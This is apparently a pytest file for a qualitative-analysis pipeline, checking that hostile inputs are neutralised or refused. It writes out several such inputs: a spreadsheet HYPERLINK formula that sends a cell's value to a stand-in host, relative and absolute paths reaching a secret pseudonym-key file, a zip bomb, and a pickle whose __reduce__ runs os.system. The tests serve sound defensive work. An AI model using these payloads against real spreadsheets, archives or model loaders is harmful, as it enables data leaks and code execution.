"""A colleague's file can do no harm (issue 38): each hostile or unlucky file, what qcode
does with it, and what it must not do. Each test prints one line for the fault table."""

import json
import zipfile

import openpyxl
from typer.testing import CliRunner

from pipeline import Config, load_codebook
from pipeline.cells import csv_text, escape, unescape
from pipeline.cli import app
from pipeline.importing import read_project, write_import
from pipeline.store import read_excerpts

from .conftest import FakeEmbedder, coded_folder, write

runner = CliRunner()
FORMULA = '=HYPERLINK("http://x/?"&H3,"more")'


def hostile_study(tmp_path, fake_embedder):
    texts = {"=1+2.txt": f"Interviewer: Why?\nParticipant: {FORMULA} we trusted the board.\n"}
    return coded_folder(tmp_path, fake_embedder, texts, {"=1+2.txt": "+cmd"}, Config(threshold=0.0, max_codes=1))


def test_escape_and_unescape_are_inverse_and_leave_numbers_alone():
    for value in ["=1+2", "+cmd", "-5", "@SUM(A1)", "\tx", "plain", "'quoted", ""]:
        assert unescape(escape(value)) == value
    assert escape(-5) == -5 and escape("-5") == "'-5"
    assert csv_text([["=a", None, 3]]) == "'=a,,3\n"


def test_exports_write_no_live_formula_and_read_their_own_sheets_back(tmp_path, fake_embedder):
    out = hostile_study(tmp_path, fake_embedder)
    assert runner.invoke(app, ["export", "table", str(out), "-o", str(tmp_path / "t.xlsx")]).exit_code == 0
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith(FORMULA) for c in cells)  # kept, as text
    assert runner.invoke(app, ["export", "table", str(out), "-o", str(tmp_path / "t.csv")]).exit_code == 0
    written = [tmp_path / "t.csv", tmp_path / "t.participants.csv", out / "counts.csv"]
    assert runner.invoke(app, ["counts", str(out), "--by", "sector"]).exit_code == 0
    written += sorted((out / "counts").glob("*.csv"))
    for path in written:
        for line in path.read_text().splitlines():
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "@")), f"{path.name}: {line}"
    # a reviewer fills the sheet; review import reads the escaped and the text cells alike
    sheet = book["excerpts"]
    header = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=header.index("review status") + 1, value="accepted")
    sheet.cell(row=2, column=header.index("reviewer") + 1, value="ana")
    book.save(tmp_path / "filled.xlsx")
    res = runner.invoke(app, ["review", "import", str(tmp_path / "filled.xlsx"), "--into", str(out)])
    assert res.exit_code == 0, res.output
    assert [e.review.status for e in read_excerpts(out / "excerpts.jsonl")][0] == "accepted"
    print("formula cells in exports: xlsx text cells, CSV apostrophe, review import reads both | exit 0")


def qdpx(tmp_path, sources: str, extra: dict[str, str] | None = None):
    """A minimal REFI-QDA project with these TextSource elements (and zip entries)."""
    xml = (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<Project xmlns="urn:QDA-XML:project:1.0" name="p" origin="hostile">'
        '<CodeBook><Codes><Code guid="c1" name="Trust" isCodable="true"/></Codes></CodeBook>'
        f"<Sources>{sources}</Sources></Project>"
    )
    path = tmp_path / "p.qdpx"
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("project.qde", xml)
        for name, text in (extra or {}).items():
            z.writestr(name, text)
    return path


def coded_source(guid: str, name: str, path: str) -> str:
    return (
        f'<TextSource guid="{guid}" name="{name}" plainTextPath="{path}">'
        f'<PlainTextSelection guid="s{guid}" startPosition="0" endPosition="5">'
        f'<Coding guid="k{guid}"><CodeRef targetGUID="c1"/></Coding></PlainTextSelection></TextSource>'
    )


def test_an_import_reads_nothing_outside_the_project(tmp_path):
    secret = write(tmp_path / "secret" / "study.pseudonym_key.csv", "placeholder,kind,original\n[P1],person,Ann\n")
    sources = "".join(
        [
            coded_source("a", "abs", f"absolute://{secret}"),
            coded_source("b", "rel", "relative://../secret/study.pseudonym_key.csv"),
            coded_source("c", "bare", str(secret)),
            coded_source("d", "ok", "internal://ok.txt"),
        ]
    )
    path = qdpx(tmp_path / "proj", sources, {"sources/ok.txt": "Hello there, we trusted them."})
    project = read_project(path)
    write_import(project, path, tmp_path / "imp", embedder=FakeEmbedder())
    everything = "".join(p.read_text(errors="replace") for p in (tmp_path / "imp").rglob("*") if p.is_file())
    assert "Ann" not in everything and "Hello there" in everything
    refused = [p for p in project.problems if "outside the project" in p]
    assert len(refused) == 3 and all("skipped, with its codings" in p for p in refused)
    print("qdpx sources outside the project (absolute://, relative://.., bare path): refused, named | exit 0")


def test_two_sources_with_one_name_keep_their_own_texts_and_codes(tmp_path):
    sources = coded_source("a", "int01", "internal://a.txt") + (
        '<TextSource guid="b" name="int01" plainTextPath="internal://b.txt"/>'
    )
    path = qdpx(tmp_path, sources, {"sources/a.txt": "Alpha text, coded.", "sources/b.txt": "Beta text, not."})
    project = read_project(path)
    write_import(project, path, tmp_path / "imp", embedder=FakeEmbedder())
    texts = sorted(p.read_text() for p in (tmp_path / "imp" / "transcripts").glob("*.txt"))
    assert len(texts) == 2 and any("Alpha" in t for t in texts) and any("Beta" in t for t in texts)
    labelled = [json.loads(x) for x in (tmp_path / "imp" / "labelled.jsonl").read_text().splitlines()]
    assert all("Alpha" in row["text"] for row in labelled if row["labels"])
    assert any("int01" in p and "same name" in p for p in project.problems)
    print("two TextSources named alike: both kept under distinct names, codes stay with their text | exit 0")


def test_a_zip_bomb_is_refused_by_its_declared_and_its_real_size(tmp_path):
    big = " " * (70 * 1024 * 1024)
    path = qdpx(tmp_path, coded_source("a", "bomb", "internal://bomb.txt"), {"sources/bomb.txt": big})
    project = read_project(path)
    assert any("too large" in p for p in project.problems) and not project.documents
    print("qdpx source of 70 MiB of spaces (zip bomb): refused, named | nothing written for it")


def test_hierarchical_codes_in_a_segments_table_import_whole(tmp_path):
    for i, (cell, theme) in enumerate(
        [("Team > Trust", "Team"), (r"Barriers\Money", "Barriers"), ("Barriers/Money", "Barriers")]
    ):
        table = write(tmp_path / f"seg{i}.csv", f'Document name,Code,Segment\ndoc1,"{cell}",we trusted each other\n')
        project = read_project(table)
        result = write_import(project, table, tmp_path / f"imp{i}", embedder=FakeEmbedder())
        book = load_codebook(tmp_path / f"imp{i}" / "codebook.yaml")
        assert [t.name for t in book.themes] == [theme] and len(book.codes) == 1
        assert result.labelled == 1
    print("segments table with 'A > B', 'A\\B', 'A/B' codes: themes written, codebook valid | exit 0")


def test_a_killed_page_leaves_no_worker_behind(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time

    script = write(
        tmp_path / "page.py",
        "import os, time\n"
        "from pipeline.reviewing.live import _worker_pool\n"
        "if __name__ == '__main__':\n"
        "    pool = _worker_pool()\n"
        "    print(pool.submit(os.getpid).result(), flush=True)\n"
        "    pool.submit(time.sleep, 120)\n"
        "    time.sleep(120)\n",
    )
    page = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True)
    try:
        worker = int(page.stdout.readline())
        os.kill(page.pid, signal.SIGKILL)
        page.wait(10)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and _alive(worker):
            time.sleep(0.1)
        assert not _alive(worker), "the relearn worker outlived its page"
    finally:
        page.kill()
    print("review page killed with SIGKILL mid-relearn: its worker ends within a second | nothing left running")


def _alive(pid: int) -> bool:
    try:
        state = open(f"/proc/{pid}/stat").read().split(")")[-1].split()[0]
    except OSError:
        return False
    return state != "Z"


def test_two_pages_on_one_folder_never_share_a_model_number(tmp_path, fake_embedder):
    from pipeline.learn import Labelled, LearnedTagger
    from pipeline.reviewing.kept_models import keep_live_model

    data = Labelled(["a", "b", "c"], ["we trust", "money cut", "we trust them"], [["trust"], [], ["trust"]])
    cb = load_codebook()
    data.labels[0] = data.labels[2] = [cb.code_ids[0]]
    tagger = LearnedTagger(cb, config=Config()).fit(fake_embedder, data)
    kept = [
        keep_live_model(tmp_path, 2, tagger, codebook_sha256="x", embedder=fake_embedder, decisions=n, seconds=1.0)
        for n in (59, 60)  # page A and page B both asked for live-2
    ]
    index = [json.loads(x) for x in (tmp_path / "live" / "index.jsonl").read_text().splitlines()]
    assert kept == [2, 3] and [(i["model"], i["decisions"]) for i in index] == [("live-2", 59), ("live-3", 60)]
    assert sorted(p.name for p in (tmp_path / "live").iterdir()) == ["index.jsonl", "v2", "v3"]
    print("two review pages relearning on one folder: each model kept under its own number | both named")


def test_a_hand_edited_model_name_does_not_break_the_page_s_stats(tmp_path):
    from fastapi.testclient import TestClient

    from pipeline.reviewing.app import create_app
    from pipeline.reviewing.session import ReviewSession, Served
    from pipeline.schemas import Review

    from .test_review import load, make_output, save
    from .test_review_app import TOKEN, signed_in

    _, path = make_output(tmp_path)
    rows = load(path)
    names = ["live-x", "batch", "live-10", "live-2"]
    for i, name in enumerate(names):
        review = Review(status="accepted", reviewer="ana", suggested_by=name, suggested=list(rows[i].codes))
        rows[i] = rows[i].model_copy(update={"review": review})
    save(path, rows)
    assert runner.invoke(app, ["review", "check", str(path)]).exit_code == 0
    session = ReviewSession(Served(tmp_path / "out", path, "ana", load_codebook(), 0.5))
    c = TestClient(create_app(session, token=TOKEN), base_url="http://127.0.0.1:8765")
    r = c.get("/api/stats", headers=signed_in(c))
    assert r.status_code == 200, r.text
    assert [m["model"] for m in r.json()["models"]] == ["batch", "live-2", "live-10", "live-x"]
    print("review.suggested_by 'live-x' in a hand-edited file: stats answer 200, the name listed last | exit 0")


def test_a_merge_keeps_the_date_so_an_older_sheet_cannot_overwrite(tmp_path):
    from pipeline.schemas import Review
    from pipeline.store import record

    from .test_review_import import edit_xlsx, export

    path, table = export(tmp_path, ".xlsx")  # the sheet goes out first
    rows = read_excerpts(path)
    decided = Review(status="rejected", reviewer="ben", reviewed_at="2026-12-01T09:00:00+00:00")
    record(path, {rows[0].id: decided})  # then the page decides P
    assert runner.invoke(app, ["review", "merge", str(path), "-o", str(path)]).exit_code == 0
    by_id = lambda: {e.id: e for e in read_excerpts(path)}  # noqa: E731
    assert by_id()[rows[0].id].review.reviewed_at == decided.reviewed_at
    edit_xlsx(table, {0: {"review status": "corrected", "codes": "conflict", "reviewer": "ana"}})
    res = runner.invoke(app, ["review", "import", str(table), "--into", str(tmp_path / "out")])
    assert res.exit_code == 1 and "was decided after this sheet was exported" in res.stderr
    assert by_id()[rows[0].id].review.status == "rejected"
    print(
        "sheet exported, page decides, merge F -o F, older sheet imported: refused, the page's decision kept | exit 1"
    )


def test_an_adjudication_survives_every_re_merge(tmp_path):
    from pipeline.schemas import Review

    from .test_review import load, make_output, save

    _, path = make_output(tmp_path)
    rows = load(path)
    pid = rows[0].id
    for who, codes in (("ana", ["conflict"]), ("ben", ["power"])):
        mine = [r.model_copy(update={"review": Review(status="corrected", codes=codes, reviewer=who)}) for r in rows]
        save(tmp_path / f"{who}.jsonl", mine)
    merged = tmp_path / "m.jsonl"
    args = ["review", "merge", str(tmp_path / "ana.jsonl"), str(tmp_path / "ben.jsonl"), "-o", str(merged)]
    assert runner.invoke(app, args).exit_code == 0
    lines = load(merged)
    at = next(i for i, e in enumerate(lines) if e.id == pid)
    assert lines[at].disagreement and lines[at].review.status == "pending"
    carl = Review(status="corrected", codes=["power"], reviewer="carl", reviewed_at="2026-12-05T10:00:00+00:00")
    lines[at] = lines[at].model_copy(update={"review": carl})  # carl decides P on `review serve m.jsonl`
    save(merged, lines)
    for again in ([str(merged)], [str(tmp_path / "ana.jsonl"), str(tmp_path / "ben.jsonl"), str(merged)]):
        assert runner.invoke(app, ["review", "merge", *again, "-o", str(merged)]).exit_code == 0
        line = next(e for e in load(merged) if e.id == pid)
        assert line.review == carl and not line.disagreement, line.review
        assert {r.reviewer for r in line.reviews} == {"ana", "ben", "carl"}
    print("ana and ben disagree, carl adjudicates the merged line, re-merged twice: carl's decision stays | exit 0")


def test_a_huge_csv_cell_is_one_error_line(tmp_path):
    table = write(tmp_path / "codes.csv", "name,definition\nTrust," + "x" * 140_000 + "\n")
    res = runner.invoke(app, ["import", "codebook", str(table), "-o", str(tmp_path / "cb.yaml")])
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert f"{table}:2: not a readable table" in res.stderr
    segments = write(tmp_path / "seg.csv", "Document name,Code,Segment\ndoc1,Trust," + "y" * 140_000 + "\n")
    res = runner.invoke(app, ["import", "project", str(segments), "-o", str(tmp_path / "imp")])
    assert res.exit_code == 1 and f"{segments}:2: not a readable table" in res.stderr
    print("a CSV cell of 140,000 characters (codebook and segments tables): one error line naming file:row | exit 1")


def test_a_transcript_with_a_250_character_name_is_coded(tmp_path, fake_embedder):
    name = "interview " + "x" * 240 + ".txt"  # a space: its copy gets a hash suffix
    out = coded_folder(tmp_path, fake_embedder, {name: "Interviewer: Why?\nParticipant: We trusted them.\n"}, {})
    assert len(read_excerpts(out / "excerpts.jsonl")) == 1
    assert all(len(p.name) <= 255 for p in out.rglob("*"))
    print("a transcript named with 250 characters: coded, its copy named within the file system's limit | exit 0")


def test_a_pickled_weights_file_is_refused_without_running_it(tmp_path, fake_embedder):
    import hashlib

    import numpy as np

    from pipeline.errors import InputError
    from pipeline.learn import Labelled, LearnedTagger

    cb = load_codebook()
    data = Labelled(["a", "b"], ["we trust", "money cut"], [[cb.code_ids[0]], []])
    LearnedTagger(cb, config=Config()).fit(fake_embedder, data).save(
        tmp_path / "m", codebook_sha256="x", embedder=fake_embedder, training=[]
    )
    weights = tmp_path / "m" / "weights.npz"
    np.savez(weights, base_coef=np.array([{"boom": 1}], dtype=object))  # a pickle inside
    meta = json.loads((tmp_path / "m" / "model.json").read_text())
    meta["weights_sha256"] = hashlib.sha256(weights.read_bytes()).hexdigest()  # and a matching hash
    (tmp_path / "m" / "model.json").write_text(json.dumps(meta))
    try:
        LearnedTagger.load(tmp_path / "m", codebook=cb, codebook_sha256="x", config=Config(), embedder=fake_embedder)
        raise AssertionError("loaded a pickled weights file")
    except InputError as err:
        assert "weights.npz" in str(err) and "not a qcode weights file" in str(err)
    print("weights.npz holding a pickle, with a matching sha256: refused, never unpickled | exit 1")


def test_reference_numbers_by_more_cues_and_shapes_and_the_negatives_kept():
    from pipeline.redact.patterns import find_patterns

    def refs(text):
        return [text[f.start : f.end] for f in find_patterns(text) if f.kind == "REFERENCE"]

    found = {
        "The crime number was 4411/22 and nobody called back.": "4411/22",
        "I logged it on Datix, 1183204, that afternoon.": "1183204",
        "His collar number is 5521, the sergeant said.": "5521",
        "They gave me a job number, 55102, for the repair.": "55102",
        "The form reference 2231-77 was on the letter.": "2231-77",
        "Quote ticket #884412 when you ring.": "884412",
        "It went in under HR/204/K last spring.": "HR/204/K",
    }
    for text, ref in found.items():
        assert refs(text) == [ref], text
    kept = [
        "A report of 2000 people said the same.",
        "We saw 1500 patients a week in 2023.",
        "She is a Band 6 nurse on ward 7, bed number 12.",
        "The call 999 campaign and the 111 service both ran.",
        "We had a £25,000 budget for the form filling project.",
        "COVID-19 changed the job for good.",
        "The unit took 2000 calls over the winter.",
    ]
    for text in kept:
        assert refs(text) == [], text
    print(
        "reference numbers after more cues (crime, Datix, collar, ...) and a letter-digits-letter shape: found; 7 hard negatives kept"
    )


def test_a_pickled_encoder_never_runs_and_is_one_error_line(tmp_path):
    import pickle

    from pipeline.embed.torch_backend import SentenceTransformerEmbedder
    from pipeline.errors import InputError

    marker = tmp_path / "ran"

    class Boom:
        def __reduce__(self):
            import os

            return (os.system, (f"touch {marker}",))

    folder = tmp_path / "encoder"
    folder.mkdir()
    modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
    (folder / "modules.json").write_text(json.dumps(modules))
    config = {"model_type": "bert", "hidden_size": 8, "num_hidden_layers": 1, "num_attention_heads": 1}
    (folder / "config.json").write_text(json.dumps({**config, "intermediate_size": 8, "vocab_size": 10}))
    (folder / "vocab.txt").write_text("\n".join(["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", "a", "b"]) + "\n")
    (folder / "pytorch_model.bin").write_bytes(pickle.dumps({"weight": Boom()}))
    try:
        SentenceTransformerEmbedder(str(folder)).embed(["a b"])
        raise AssertionError("loaded a pickled encoder")
    except InputError as err:
        assert str(folder) in str(err) and "cannot load this embedding model" in str(err)
        assert "\n" not in str(err)
    assert not marker.exists()
    print("an encoder folder whose pytorch_model.bin is a pickle: refused, never run, one error line | exit 1")
